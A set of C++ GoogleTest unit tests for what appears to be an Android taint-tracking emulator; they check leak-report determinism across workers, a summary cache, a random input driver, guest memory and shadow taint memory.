#if defined(__has_feature)
#if __has_feature(thread_sanitizer)
#define NDROID_NO_FORK_TESTS 1
#endif
#endif
#if !defined(NDROID_NO_FORK_TESTS) && defined(__SANITIZE_THREAD__)
#define NDROID_NO_FORK_TESTS 1
#endif

namespace ndroid {
namespace {

namespace sa = static_analysis;

std::vector<farm::JobSpec> small_mix() {
  // Table I corpus + a native CF-Bench workload + market apps + the two
  // monkey-driven real apps: every job kind, still fast enough to run at
  // four worker counts.
  std::vector<farm::JobSpec> jobs = farm::table1_jobs();
  {
    farm::JobSpec j;
    j.kind = farm::JobKind::kCfBench;
    j.name = "Native MIPS";
    j.iterations = 5;
    jobs.push_back(std::move(j));
  }
  for (farm::JobSpec& j : farm::market_jobs(4, /*seed=*/7)) {
    jobs.push_back(std::move(j));
  }
  for (farm::JobSpec& j : farm::real_app_jobs(/*monkey_events=*/8,
                                              /*seed=*/7)) {
    jobs.push_back(std::move(j));
  }
  for (u32 i = 0; i < static_cast<u32>(jobs.size()); ++i) {
    jobs[i].id = i;
    if (jobs[i].kind == farm::JobKind::kRealApp) {
      jobs[i].monkey_seed = farm::derive_seed(7, i, 0);
    }
  }
  return jobs;
}

TEST(Farm, LeakReportsIdenticalAtAnyWorkerCount) {
  const std::vector<farm::JobSpec> jobs = small_mix();

  farm::FarmOptions serial;
  serial.workers = 0;
  const std::string reference = farm::run_farm(jobs, serial).leak_digest();
  ASSERT_FALSE(reference.empty());
  ASSERT_NE(reference.find("case 1"), std::string::npos);

  for (const u32 workers : {1u, 2u, 8u}) {
    farm::FarmOptions options;
    options.workers = workers;
    const farm::FarmReport report = farm::run_farm(jobs, options);
    EXPECT_EQ(report.failures, 0u) << "workers=" << workers;
    EXPECT_EQ(report.leak_digest(), reference) << "workers=" << workers;
  }
}

TEST(Farm, SharedCacheDoesNotChangeResults) {
  const std::vector<farm::JobSpec> jobs = small_mix();

  farm::FarmOptions no_cache;
  no_cache.workers = 0;
  no_cache.share_summaries = false;
  farm::FarmOptions cached;
  cached.workers = 2;
  cached.share_summaries = true;

  EXPECT_EQ(farm::run_farm(jobs, no_cache).leak_digest(),
            farm::run_farm(jobs, cached).leak_digest());
}

TEST(Farm, ExactlyOneLiftPerKeyUnderConcurrentFirstAccess) {
  // Eight threads race acquire() on one key; the lift sleeps long enough
  // that every waiter piles up behind the owner.
  sa::SummaryCache cache;
  std::atomic<int> lifts{0};
  const auto lift = [&] {
    ++lifts;
    std::this_thread::sleep_for(std::chrono::milliseconds(30));
    sa::LibrarySummary lib;
    lib.key = 99;
    lib.lifted_base = 0x10000;
    lib.image_size = 64;
    return lib;
  };

  std::vector<std::shared_ptr<const sa::LibrarySummary>> got(8);
  std::vector<std::thread> threads;
  for (int t = 0; t < 8; ++t) {
    threads.emplace_back(
        [&, t] { got[t] = cache.acquire(99, 0x10000, lift); });
  }
  for (std::thread& t : threads) t.join();

  EXPECT_EQ(lifts.load(), 1);
  for (const auto& lib : got) {
    ASSERT_NE(lib, nullptr);
    EXPECT_EQ(lib.get(), got[0].get());
  }
  const sa::SummaryCache::Stats stats = cache.stats();
  EXPECT_EQ(stats.misses, 1u);
  EXPECT_EQ(stats.hits, 7u);
}

TEST(Farm, MonkeySeedReproducibleAndSeedSensitive) {
  farm::JobSpec spec;
  spec.kind = farm::JobKind::kRealApp;
  spec.name = "qqphonebook";
  spec.monkey_events = 10;
  spec.monkey_seed = 42;

  farm::FarmOptions options;
  const farm::JobResult a = farm::run_job(spec, nullptr, options);
  const farm::JobResult b = farm::run_job(spec, nullptr, options);
  ASSERT_TRUE(a.ok) << a.error;
  EXPECT_EQ(a.framework_leaks.size(), b.framework_leaks.size());
  EXPECT_EQ(a.first_leaking_method, b.first_leaking_method);

  // Per-(id, rep) derivation actually varies the seed.
  EXPECT_NE(farm::derive_seed(42, 1, 0), farm::derive_seed(42, 1, 1));
  EXPECT_NE(farm::derive_seed(42, 1, 0), farm::derive_seed(42, 2, 0));
}

TEST(Farm, MarketCorpusSharesSummariesAcrossApps) {
  // Repeating the market corpus: each distinct library lifts once (first
  // batch), then every later encounter hits the shared snapshot.
  const std::vector<farm::JobSpec> jobs =
      farm::repeat_jobs(farm::market_jobs(6, /*seed=*/11), /*reps=*/4);

  sa::SummaryCache cache;
  farm::FarmOptions options;
  options.workers = 2;
  options.cache = &cache;
  const farm::FarmReport report = farm::run_farm(jobs, options);

  EXPECT_EQ(report.failures, 0u);
  EXPECT_GT(report.cache.hits, 0u);
  // Lifts == distinct library names in the corpus, not libraries-met.
  std::vector<std::string> distinct;
  for (const farm::JobSpec& j : jobs) {
    for (const std::string& lib : j.native_libs) {
      if (std::find(distinct.begin(), distinct.end(), lib) == distinct.end()) {
        distinct.push_back(lib);
      }
    }
  }
  EXPECT_EQ(report.cache.misses, distinct.size());
  EXPECT_GT(report.cache.hit_rate(), 0.5);
}

TEST(Farm, DigestIdenticalAcrossAllTopologiesColdAndWarmStore) {
#ifdef NDROID_NO_FORK_TESTS
  GTEST_SKIP() << "fork-based process pool tests skipped under TSan";
#endif
  // The tentpole determinism claim: serial, thread, and process topologies
  // — with no store, a cold persistent store, and a warm one — all produce
  // bit-identical leak digests.
  const std::vector<farm::JobSpec> jobs = small_mix();

  farm::FarmOptions serial;
  const std::string reference = farm::run_farm(jobs, serial).leak_digest();
  ASSERT_FALSE(reference.empty());

  for (const u32 processes : {1u, 2u, 4u}) {
    farm::FarmOptions options;
    options.processes = processes;
    const farm::FarmReport report = farm::run_farm(jobs, options);
    EXPECT_EQ(report.failures, 0u) << "processes=" << processes;
    EXPECT_EQ(report.worker_deaths, 0u) << "processes=" << processes;
    EXPECT_EQ(report.leak_digest(), reference) << "processes=" << processes;
  }

  char tmpl[] = "/tmp/ndroid_farm_store_XXXXXX";
  const char* dir = ::mkdtemp(tmpl);
  ASSERT_NE(dir, nullptr);

  // Cold store, process-sharded: every distinct library is lifted once in
  // some worker process and written back through the shared directory.
  farm::FarmOptions cold;
  cold.processes = 2;
  cold.store_dir = dir;
  const farm::FarmReport cold_report = farm::run_farm(jobs, cold);
  EXPECT_EQ(cold_report.failures, 0u);
  EXPECT_EQ(cold_report.leak_digest(), reference);
  EXPECT_GT(cold_report.cache.store_writes, 0u);
  EXPECT_EQ(cold_report.warm_entries, 0u);

  // Warm store, every topology: the supervisor pre-publishes the on-disk
  // entries before workers exist, nothing is re-lifted or rewritten, and
  // the digest still matches the storeless serial reference.
  for (const auto& [workers, processes] :
       std::vector<std::pair<u32, u32>>{{0, 0}, {2, 0}, {0, 2}}) {
    farm::FarmOptions warm;
    warm.workers = workers;
    warm.processes = processes;
    warm.store_dir = dir;
    const farm::FarmReport report = farm::run_farm(jobs, warm);
    EXPECT_EQ(report.failures, 0u) << workers << "w/" << processes << "p";
    EXPECT_GT(report.warm_entries, 0u) << workers << "w/" << processes << "p";
    EXPECT_EQ(report.cache.store_writes, 0u)
        << workers << "w/" << processes << "p";
    EXPECT_EQ(report.leak_digest(), reference)
        << workers << "w/" << processes << "p";
  }
}

TEST(Farm, GeneratedMarketLibrariesArePositionIndependent) {
  // The same library name must produce byte-identical images at different
  // assembly bases — the property that makes cross-app cache keys collide
  // (and exercises bind_library's relocation instead of a re-lift).
  const u64 seed = 0xDEADBEEFu;
  arm::Assembler at_low(0x10000);
  arm::Assembler at_high(0x24000);
  const auto fns_low = farm::emit_pic_library(at_low, seed);
  const auto fns_high = farm::emit_pic_library(at_high, seed);

  EXPECT_EQ(at_low.finish(), at_high.finish());
  ASSERT_EQ(fns_low.size(), fns_high.size());
  for (std::size_t i = 0; i < fns_low.size(); ++i) {
    EXPECT_EQ(fns_low[i] - 0x10000, fns_high[i] - 0x24000);
  }
}

}  // namespace
}  // namespace ndroid
