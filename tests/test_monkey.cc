// The Monkeyrunner-analog input driver (§VI methodology).
#include <gtest/gtest.h>

#include "apps/monkey.h"
#include "apps/real_apps.h"
#include "core/ndroid.h"

namespace ndroid::apps {
namespace {

using android::Device;

TEST(Monkey, FindsTheLeakingEntryPoint) {
  Device device("com.tencent.qqphonebook");
  core::NDroid nd(device);
  const LeakScenario app = build_qq_phonebook(device);
  (void)app;

  Monkey monkey(device, /*seed=*/42);
  monkey.add_target(device.dvm.find_class("Lcom/tencent/tccsync/LoginUtil;"));
  const MonkeyReport report = monkey.run(30, [&] {
    return static_cast<u32>(device.framework.leaks().size() +
                            nd.leaks().size());
  });

  ASSERT_EQ(report.events.size(), 30u);
  // The random driver eventually hits main(), which performs the full flow.
  EXPECT_GT(report.total_leaks, 0u);
  EXPECT_EQ(report.first_leaking_method,
            "Lcom/tencent/tccsync/LoginUtil;main");
}

TEST(Monkey, DeterministicPerSeed) {
  auto run_once = [](u64 seed) {
    Device device;
    core::NDroid nd(device);
    build_qq_phonebook(device);
    Monkey monkey(device, seed);
    monkey.add_target(
        device.dvm.find_class("Lcom/tencent/tccsync/LoginUtil;"));
    const MonkeyReport r = monkey.run(10, [&] {
      return static_cast<u32>(device.framework.leaks().size());
    });
    std::string trace;
    for (const auto& e : r.events) trace += e.method + ";";
    return trace;
  };
  EXPECT_EQ(run_once(7), run_once(7));
  EXPECT_NE(run_once(7), run_once(8));
}

TEST(Monkey, RandomInputsAloneDoNotCauseFalsePositives) {
  // Driving the native methods directly with untainted random strings must
  // not produce leak reports (the data is not sensitive).
  Device device;
  core::NDroid nd(device);
  build_qq_phonebook(device);
  Monkey monkey(device, 1234);
  dvm::ClassObject* cls =
      device.dvm.find_class("Lcom/tencent/tccsync/LoginUtil;");
  // Restrict targets to the native methods only (exclude main).
  Monkey targeted(device, 99);
  for (const auto& m : cls->methods()) {
    if (m->is_native()) {
      // Invoke each native method directly with clean random args.
      std::vector<dvm::Slot> args;
      for (u32 p = 1; p < m->shorty.size(); ++p) {
        if (m->shorty[p] == 'L') {
          args.push_back(dvm::Slot{device.dvm.new_string("rand")->addr(), 0});
        } else {
          args.push_back(dvm::Slot{7, 0});
        }
      }
      device.dvm.call(*m, std::move(args));
    }
  }
  EXPECT_TRUE(device.framework.leaks().empty());
  EXPECT_TRUE(nd.leaks().empty());
}

}  // namespace
}  // namespace ndroid::apps
