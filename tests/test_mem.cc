#include <gtest/gtest.h>

#include "mem/address_space.h"
#include "mem/memory_map.h"
#include "mem/shadow_memory.h"

namespace ndroid::mem {
namespace {

TEST(AddressSpace, ZeroFilledByDefault) {
  AddressSpace mem;
  EXPECT_EQ(mem.read8(0x1000), 0u);
  EXPECT_EQ(mem.read32(0xDEADBEE0), 0u);
  EXPECT_EQ(mem.resident_pages(), 0u);
}

TEST(AddressSpace, ReadWriteRoundTrip) {
  AddressSpace mem;
  mem.write8(0x100, 0xAB);
  mem.write16(0x200, 0x1234);
  mem.write32(0x300, 0xCAFEBABE);
  mem.write64(0x400, 0x1122334455667788ull);
  EXPECT_EQ(mem.read8(0x100), 0xAB);
  EXPECT_EQ(mem.read16(0x200), 0x1234);
  EXPECT_EQ(mem.read32(0x300), 0xCAFEBABEu);
  EXPECT_EQ(mem.read64(0x400), 0x1122334455667788ull);
}

TEST(AddressSpace, LittleEndianLayout) {
  AddressSpace mem;
  mem.write32(0x100, 0x0A0B0C0D);
  EXPECT_EQ(mem.read8(0x100), 0x0D);
  EXPECT_EQ(mem.read8(0x103), 0x0A);
}

TEST(AddressSpace, CrossPageAccess) {
  AddressSpace mem;
  const GuestAddr addr = AddressSpace::kPageSize - 2;
  mem.write32(addr, 0x11223344);
  EXPECT_EQ(mem.read32(addr), 0x11223344u);
  EXPECT_EQ(mem.resident_pages(), 2u);
}

TEST(AddressSpace, CStringRoundTrip) {
  AddressSpace mem;
  mem.write_cstr(0x500, "hello JNI");
  EXPECT_EQ(mem.read_cstr(0x500), "hello JNI");
}

TEST(AddressSpace, CStringUnterminatedThrows) {
  AddressSpace mem;
  mem.fill(0x500, 'x', 64);
  EXPECT_THROW((void)mem.read_cstr(0x500, 32), GuestFault);
}

TEST(AddressSpace, CopyOverlappingForward) {
  AddressSpace mem;
  mem.write_cstr(0x100, "abcdef");
  mem.copy(0x102, 0x100, 6);
  u8 buf[8];
  mem.read_bytes(0x100, buf);
  EXPECT_EQ(std::string(reinterpret_cast<char*>(buf), 8),
            std::string("ababcdef"));
}

TEST(MemoryMap, FindByAddressAndName) {
  MemoryMap map;
  map.add("libdvm.so", 0x40000000, 0x10000, kRX);
  map.add("libc.so", 0x40100000, 0x8000, kRX);
  map.add("[stack]", 0xBE000000, 0x100000, kRW);

  EXPECT_EQ(map.module_of(0x40000123), "libdvm.so");
  EXPECT_EQ(map.module_of(0x40100000), "libc.so");
  EXPECT_EQ(map.module_of(0x30000000), "<unmapped>");
  ASSERT_NE(map.find_by_name("[stack]"), nullptr);
  EXPECT_EQ(map.find_by_name("[stack]")->start, 0xBE000000u);
  EXPECT_EQ(map.find_by_name("libm.so"), nullptr);
}

TEST(MemoryMap, RejectsOverlap) {
  MemoryMap map;
  map.add("a", 0x1000, 0x1000, kRW);
  EXPECT_THROW(map.add("b", 0x1800, 0x1000, kRW), GuestFault);
  EXPECT_THROW(map.add("c", 0x0800, 0x1000, kRW), GuestFault);
  // Adjacent is fine.
  map.add("d", 0x2000, 0x1000, kRW);
}

TEST(MemoryMap, FindFreeSkipsExisting) {
  MemoryMap map;
  map.add("a", 0x1000, 0x1000, kRW);
  map.add("b", 0x2000, 0x1000, kRW);
  const GuestAddr free_at = map.find_free(0x1000, 0x1000);
  EXPECT_GE(free_at, 0x3000u);
}

TEST(ShadowMemory, DefaultClear) {
  ShadowMemory shadow;
  EXPECT_EQ(shadow.get(0x1234), kTaintClear);
  EXPECT_EQ(shadow.tainted_bytes(), 0u);
}

TEST(ShadowMemory, AddIsUnion) {
  ShadowMemory shadow;
  shadow.add(0x100, 0x2);
  shadow.add(0x100, 0x200);
  EXPECT_EQ(shadow.get(0x100), 0x202u);
}

TEST(ShadowMemory, SetOverwrites) {
  ShadowMemory shadow;
  shadow.add(0x100, 0xFF);
  shadow.set(0x100, 0x1);
  EXPECT_EQ(shadow.get(0x100), 0x1u);
  shadow.set(0x100, 0);
  EXPECT_EQ(shadow.get(0x100), kTaintClear);
}

TEST(ShadowMemory, RangeUnion) {
  ShadowMemory shadow;
  shadow.set(0x100, 0x1);
  shadow.set(0x105, 0x4);
  EXPECT_EQ(shadow.get_range(0x100, 8), 0x5u);
  EXPECT_EQ(shadow.get_range(0x101, 4), kTaintClear);
}

TEST(ShadowMemory, CopyRangeMirrorsMemcpy) {
  ShadowMemory shadow;
  shadow.set(0x100, 0x2);
  shadow.set(0x102, 0x8);
  shadow.copy_range(0x200, 0x100, 4);
  EXPECT_EQ(shadow.get(0x200), 0x2u);
  EXPECT_EQ(shadow.get(0x201), kTaintClear);
  EXPECT_EQ(shadow.get(0x202), 0x8u);
}

TEST(ShadowMemory, CopyRangeOverlapping) {
  ShadowMemory shadow;
  shadow.set(0x100, 0x1);
  shadow.set(0x101, 0x2);
  shadow.set(0x102, 0x4);
  shadow.copy_range(0x101, 0x100, 3);  // overlapping forward copy
  EXPECT_EQ(shadow.get(0x101), 0x1u);
  EXPECT_EQ(shadow.get(0x102), 0x2u);
  EXPECT_EQ(shadow.get(0x103), 0x4u);
}

TEST(ShadowMemory, TaintedBytesCountsNonZero) {
  ShadowMemory shadow;
  shadow.set_range(0x100, 10, 0x2);
  shadow.set(0x104, 0);
  EXPECT_EQ(shadow.tainted_bytes(), 9u);
}

TEST(ShadowMemory, CrossPageRange) {
  ShadowMemory shadow;
  const GuestAddr addr = ShadowMemory::kPageSize - 2;
  shadow.set_range(addr, 4, 0x10);
  EXPECT_EQ(shadow.get(addr + 3), 0x10u);
  EXPECT_EQ(shadow.get_range(addr, 4), 0x10u);
}

}  // namespace
}  // namespace ndroid::mem
