#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "mem/address_space.h"
#include "mem/memory_map.h"
#include "mem/shadow_memory.h"

namespace ndroid::mem {
namespace {

TEST(AddressSpace, ZeroFilledByDefault) {
  AddressSpace mem;
  EXPECT_EQ(mem.read8(0x1000), 0u);
  EXPECT_EQ(mem.read32(0xDEADBEE0), 0u);
  EXPECT_EQ(mem.resident_pages(), 0u);
}

TEST(AddressSpace, ReadWriteRoundTrip) {
  AddressSpace mem;
  mem.write8(0x100, 0xAB);
  mem.write16(0x200, 0x1234);
  mem.write32(0x300, 0xCAFEBABE);
  mem.write64(0x400, 0x1122334455667788ull);
  EXPECT_EQ(mem.read8(0x100), 0xAB);
  EXPECT_EQ(mem.read16(0x200), 0x1234);
  EXPECT_EQ(mem.read32(0x300), 0xCAFEBABEu);
  EXPECT_EQ(mem.read64(0x400), 0x1122334455667788ull);
}

TEST(AddressSpace, LittleEndianLayout) {
  AddressSpace mem;
  mem.write32(0x100, 0x0A0B0C0D);
  EXPECT_EQ(mem.read8(0x100), 0x0D);
  EXPECT_EQ(mem.read8(0x103), 0x0A);
}

TEST(AddressSpace, CrossPageAccess) {
  AddressSpace mem;
  const GuestAddr addr = AddressSpace::kPageSize - 2;
  mem.write32(addr, 0x11223344);
  EXPECT_EQ(mem.read32(addr), 0x11223344u);
  EXPECT_EQ(mem.resident_pages(), 2u);
}

TEST(AddressSpace, CStringRoundTrip) {
  AddressSpace mem;
  mem.write_cstr(0x500, "hello JNI");
  EXPECT_EQ(mem.read_cstr(0x500), "hello JNI");
}

TEST(AddressSpace, CStringUnterminatedThrows) {
  AddressSpace mem;
  mem.fill(0x500, 'x', 64);
  EXPECT_THROW((void)mem.read_cstr(0x500, 32), GuestFault);
}

TEST(AddressSpace, CopyOverlappingForward) {
  AddressSpace mem;
  mem.write_cstr(0x100, "abcdef");
  mem.copy(0x102, 0x100, 6);
  u8 buf[8];
  mem.read_bytes(0x100, buf);
  EXPECT_EQ(std::string(reinterpret_cast<char*>(buf), 8),
            std::string("ababcdef"));
}

TEST(AddressSpace, CopyOverlappingBackward) {
  AddressSpace mem;
  mem.write_cstr(0x102, "abcdef");
  mem.copy(0x100, 0x102, 6);  // dst below src: forward chunk order
  u8 buf[8];
  mem.read_bytes(0x100, buf);
  // memmove semantics: the copied window shifts down, the source tail stays.
  EXPECT_EQ(std::string(reinterpret_cast<char*>(buf), 8),
            std::string("abcdefef"));
}

TEST(AddressSpace, CopySelfIsNoop) {
  AddressSpace mem;
  mem.write_cstr(0x100, "abc");
  mem.copy(0x100, 0x100, 3);
  EXPECT_EQ(mem.read_cstr(0x100), "abc");
}

TEST(AddressSpace, CopyOverlappingAcrossPagesMisaligned) {
  // Forward-overlapping copy crossing a page boundary where src and dst sit
  // at different page offsets, so chunks are bounded by both boundaries.
  AddressSpace mem;
  const GuestAddr src = AddressSpace::kPageSize - 100;
  std::vector<u8> data(300);
  for (u32 i = 0; i < 300; ++i) data[i] = static_cast<u8>(i * 7 + 1);
  mem.write_bytes(src, data);
  mem.copy(src + 37, src, 300);
  std::vector<u8> out(300);
  mem.read_bytes(src + 37, out);
  EXPECT_EQ(out, data);
}

TEST(AddressSpace, CopyFromAbsentReadsZero) {
  AddressSpace mem;
  mem.fill(0x100, 0xEE, 16);
  mem.copy(0x100, 0x800000, 16);  // source never touched
  for (u32 i = 0; i < 16; ++i) EXPECT_EQ(mem.read8(0x100 + i), 0u);
}

TEST(AddressSpace, CStringAcrossPages) {
  AddressSpace mem;
  const GuestAddr addr = AddressSpace::kPageSize - 3;
  mem.write_cstr(addr, "spans a page");
  EXPECT_EQ(mem.read_cstr(addr), "spans a page");
}

TEST(AddressSpace, CStringStopsAtAbsentPage) {
  AddressSpace mem;
  // Fill the tail of one page with non-NUL bytes; the next page is absent
  // and reads as zero, which terminates the string.
  const GuestAddr addr = AddressSpace::kPageSize - 8;
  mem.fill(addr, 'y', 8);
  EXPECT_EQ(mem.read_cstr(addr), "yyyyyyyy");
}

TEST(AddressSpace, CStringLongUsesChunks) {
  AddressSpace mem;
  mem.fill(0x100000, 'z', 3 * AddressSpace::kPageSize);
  mem.write8(0x100000 + 3 * AddressSpace::kPageSize, 0);
  EXPECT_EQ(mem.read_cstr(0x100000).size(), 3u * AddressSpace::kPageSize);
}

TEST(AddressSpace, WatchedPageStoresAlwaysFire) {
  // The write-TLB contract: a store entry for a watched page is never
  // cached, so *every* store to it reaches the watch — not just the first.
  AddressSpace mem;
  std::vector<u8> bitmap(1u << 20, 0);
  bitmap[0x5000u >> AddressSpace::kPageShift] = 1;
  int fires = 0;
  mem.set_write_watch(bitmap.data(), [&](GuestAddr, u32) { ++fires; });
  mem.write8(0x5000, 1);
  mem.write8(0x5001, 2);
  mem.write32(0x5004, 3);
  EXPECT_EQ(fires, 3);
  // Stores to an unwatched page never fire, cached or not.
  mem.write8(0x9000, 1);
  mem.write8(0x9001, 2);
  EXPECT_EQ(fires, 3);
  mem.set_write_watch(nullptr, {});
}

TEST(AddressSpace, InstallingWatchDropsCachedWriteEntries) {
  AddressSpace mem;
  mem.write8(0x5000, 1);  // caches a write-TLB entry for the page
  std::vector<u8> bitmap(1u << 20, 0);
  bitmap[0x5000u >> AddressSpace::kPageShift] = 1;
  int fires = 0;
  mem.set_write_watch(bitmap.data(), [&](GuestAddr, u32) { ++fires; });
  mem.write8(0x5002, 2);  // must take the slow path and fire
  EXPECT_EQ(fires, 1);
  mem.set_write_watch(nullptr, {});
}

TEST(AddressSpace, LateArmedWatchBitNeedsInvalidate) {
  // A watch bit arming after a write entry was cached (the TB cache inserts
  // a block into an already-written page) requires the owner to drop the
  // entry via tlb_invalidate_write_page — which must make the watch fire.
  AddressSpace mem;
  std::vector<u8> bitmap(1u << 20, 0);
  int fires = 0;
  mem.set_write_watch(bitmap.data(), [&](GuestAddr, u32) { ++fires; });
  mem.write8(0x5000, 1);  // unwatched: cached, no fire
  EXPECT_EQ(fires, 0);
  bitmap[0x5000u >> AddressSpace::kPageShift] = 1;  // bit arms late
  mem.tlb_invalidate_write_page(0x5000u >> AddressSpace::kPageShift);
  mem.write8(0x5001, 2);
  EXPECT_EQ(fires, 1);
  mem.write8(0x5002, 3);  // and it keeps firing (never re-cached)
  EXPECT_EQ(fires, 2);
  mem.set_write_watch(nullptr, {});
}

TEST(AddressSpace, TlbDisabledMatchesEnabled) {
  AddressSpace on;
  AddressSpace off;
  off.set_tlb_enabled(false);
  for (u32 i = 0; i < 64; ++i) {
    const GuestAddr a = 0x1000 + i * 257;
    on.write32(a, i * 0x01010101u);
    off.write32(a, i * 0x01010101u);
  }
  for (u32 i = 0; i < 64; ++i) {
    const GuestAddr a = 0x1000 + i * 257;
    EXPECT_EQ(on.read32(a), off.read32(a));
  }
}

TEST(MemoryMap, FindByAddressAndName) {
  MemoryMap map;
  map.add("libdvm.so", 0x40000000, 0x10000, kRX);
  map.add("libc.so", 0x40100000, 0x8000, kRX);
  map.add("[stack]", 0xBE000000, 0x100000, kRW);

  EXPECT_EQ(map.module_of(0x40000123), "libdvm.so");
  EXPECT_EQ(map.module_of(0x40100000), "libc.so");
  EXPECT_EQ(map.module_of(0x30000000), "<unmapped>");
  ASSERT_NE(map.find_by_name("[stack]"), nullptr);
  EXPECT_EQ(map.find_by_name("[stack]")->start, 0xBE000000u);
  EXPECT_EQ(map.find_by_name("libm.so"), nullptr);
}

TEST(MemoryMap, RejectsOverlap) {
  MemoryMap map;
  map.add("a", 0x1000, 0x1000, kRW);
  EXPECT_THROW(map.add("b", 0x1800, 0x1000, kRW), GuestFault);
  EXPECT_THROW(map.add("c", 0x0800, 0x1000, kRW), GuestFault);
  // Adjacent is fine.
  map.add("d", 0x2000, 0x1000, kRW);
}

TEST(MemoryMap, FindFreeSkipsExisting) {
  MemoryMap map;
  map.add("a", 0x1000, 0x1000, kRW);
  map.add("b", 0x2000, 0x1000, kRW);
  const GuestAddr free_at = map.find_free(0x1000, 0x1000);
  EXPECT_GE(free_at, 0x3000u);
}

TEST(ShadowMemory, DefaultClear) {
  ShadowMemory shadow;
  EXPECT_EQ(shadow.get(0x1234), kTaintClear);
  EXPECT_EQ(shadow.tainted_bytes(), 0u);
}

TEST(ShadowMemory, AddIsUnion) {
  ShadowMemory shadow;
  shadow.add(0x100, 0x2);
  shadow.add(0x100, 0x200);
  EXPECT_EQ(shadow.get(0x100), 0x202u);
}

TEST(ShadowMemory, SetOverwrites) {
  ShadowMemory shadow;
  shadow.add(0x100, 0xFF);
  shadow.set(0x100, 0x1);
  EXPECT_EQ(shadow.get(0x100), 0x1u);
  shadow.set(0x100, 0);
  EXPECT_EQ(shadow.get(0x100), kTaintClear);
}

TEST(ShadowMemory, RangeUnion) {
  ShadowMemory shadow;
  shadow.set(0x100, 0x1);
  shadow.set(0x105, 0x4);
  EXPECT_EQ(shadow.get_range(0x100, 8), 0x5u);
  EXPECT_EQ(shadow.get_range(0x101, 4), kTaintClear);
}

TEST(ShadowMemory, CopyRangeMirrorsMemcpy) {
  ShadowMemory shadow;
  shadow.set(0x100, 0x2);
  shadow.set(0x102, 0x8);
  shadow.copy_range(0x200, 0x100, 4);
  EXPECT_EQ(shadow.get(0x200), 0x2u);
  EXPECT_EQ(shadow.get(0x201), kTaintClear);
  EXPECT_EQ(shadow.get(0x202), 0x8u);
}

TEST(ShadowMemory, CopyRangeOverlapping) {
  ShadowMemory shadow;
  shadow.set(0x100, 0x1);
  shadow.set(0x101, 0x2);
  shadow.set(0x102, 0x4);
  shadow.copy_range(0x101, 0x100, 3);  // overlapping forward copy
  EXPECT_EQ(shadow.get(0x101), 0x1u);
  EXPECT_EQ(shadow.get(0x102), 0x2u);
  EXPECT_EQ(shadow.get(0x103), 0x4u);
}

TEST(ShadowMemory, TaintedBytesCountsNonZero) {
  ShadowMemory shadow;
  shadow.set_range(0x100, 10, 0x2);
  shadow.set(0x104, 0);
  EXPECT_EQ(shadow.tainted_bytes(), 9u);
}

TEST(ShadowMemory, CrossPageRange) {
  ShadowMemory shadow;
  const GuestAddr addr = ShadowMemory::kPageSize - 2;
  shadow.set_range(addr, 4, 0x10);
  EXPECT_EQ(shadow.get(addr + 3), 0x10u);
  EXPECT_EQ(shadow.get_range(addr, 4), 0x10u);
}

TEST(ShadowMemory, CopyRangeSelfIsNoop) {
  ShadowMemory shadow;
  u64 liveness = 0;
  u64 mutation = 0;
  shadow.set_liveness_epoch_slot(&liveness);
  shadow.set_mutation_epoch_slot(&mutation);
  shadow.set_range(0x100, 8, 0x3);
  const u64 live0 = liveness;
  const u64 mut0 = mutation;
  shadow.copy_range(0x100, 0x100, 8);
  EXPECT_EQ(shadow.get_range(0x100, 8), 0x3u);
  EXPECT_EQ(shadow.tainted_bytes(), 8u);
  EXPECT_EQ(liveness, live0);
  EXPECT_EQ(mutation, mut0);
}

TEST(ShadowMemory, CopyRangeBackwardOverlap) {
  // dst above src and overlapping: chunks must run in descending order.
  ShadowMemory shadow;
  for (u32 i = 0; i < 6; ++i) shadow.set(0x100 + i, 0x10 + i);
  shadow.copy_range(0x103, 0x100, 6);
  for (u32 i = 0; i < 6; ++i) EXPECT_EQ(shadow.get(0x103 + i), 0x10u + i);
  EXPECT_EQ(shadow.get(0x100), 0x10u);  // below dst: untouched
  EXPECT_EQ(shadow.tainted_bytes(), 9u);
}

TEST(ShadowMemory, CopyRangeOverlapAcrossPagesMisaligned) {
  // Overlapping copy whose chunks are split by *both* the source and the
  // destination page boundaries (different page offsets).
  ShadowMemory shadow;
  const GuestAddr src = ShadowMemory::kPageSize - 100;
  for (u32 i = 0; i < 300; ++i) shadow.set(src + i, (i % 7) + 1);
  shadow.copy_range(src + 37, src, 300);  // backward-ordered chunks
  for (u32 i = 0; i < 300; ++i) {
    EXPECT_EQ(shadow.get(src + 37 + i), (i % 7) + 1) << i;
  }
  EXPECT_EQ(shadow.tainted_bytes(), 337u);
}

TEST(ShadowMemory, CopyRangeFromClearClearsDestination) {
  ShadowMemory shadow;
  u64 mutation = 0;
  shadow.set_mutation_epoch_slot(&mutation);
  shadow.set_range(0x100, 16, 0x2);
  const u64 mut0 = mutation;
  shadow.copy_range(0x100, 0x900000, 16);  // source never tainted
  EXPECT_EQ(shadow.get_range(0x100, 16), kTaintClear);
  EXPECT_EQ(shadow.tainted_bytes(), 0u);
  EXPECT_EQ(mutation, mut0 + 1);  // the dst page crossed live -> dead
}

TEST(ShadowMemory, OrCopyRangeIsUnion) {
  ShadowMemory shadow;
  shadow.set(0x100, 0x1);
  shadow.set(0x102, 0x4);
  shadow.set(0x201, 0x8);  // pre-existing dst taint must survive
  shadow.or_copy_range(0x200, 0x100, 4);
  EXPECT_EQ(shadow.get(0x200), 0x1u);
  EXPECT_EQ(shadow.get(0x201), 0x8u);
  EXPECT_EQ(shadow.get(0x202), 0x4u);
  // Live bytes: src 0x100/0x102, dst 0x200/0x201/0x202.
  EXPECT_EQ(shadow.tainted_bytes(), 5u);
}

TEST(ShadowMemory, OrCopyRangeOverlapCascades) {
  // Historical semantics of the per-byte syslib model: with dst one past
  // src, each ORed byte is re-read as the next source byte, so one tainted
  // byte cascades through the whole destination range.
  ShadowMemory shadow;
  shadow.set(0x100, 0x2);
  shadow.or_copy_range(0x101, 0x100, 3);
  EXPECT_EQ(shadow.get(0x101), 0x2u);
  EXPECT_EQ(shadow.get(0x102), 0x2u);
  EXPECT_EQ(shadow.get(0x103), 0x2u);
}

TEST(ShadowMemory, AnyTaintedInWideWindow) {
  // Regression: a multi-GiB window must walk resident directory leaves, not
  // probe every 4 KiB page number in the window. With the old per-page
  // probing, this loop was ~2^18 hash lookups per query and the test took
  // minutes; now each miss is a handful of null root-slot checks.
  ShadowMemory shadow;
  shadow.set(0xF0000000, 0x2);
  EXPECT_TRUE(shadow.any_tainted_in(0x10000000, 0xF0000001));
  EXPECT_TRUE(shadow.any_tainted_in(0xF0000000, 0xFFFFFFFF));
  for (u32 i = 0; i < 4096; ++i) {
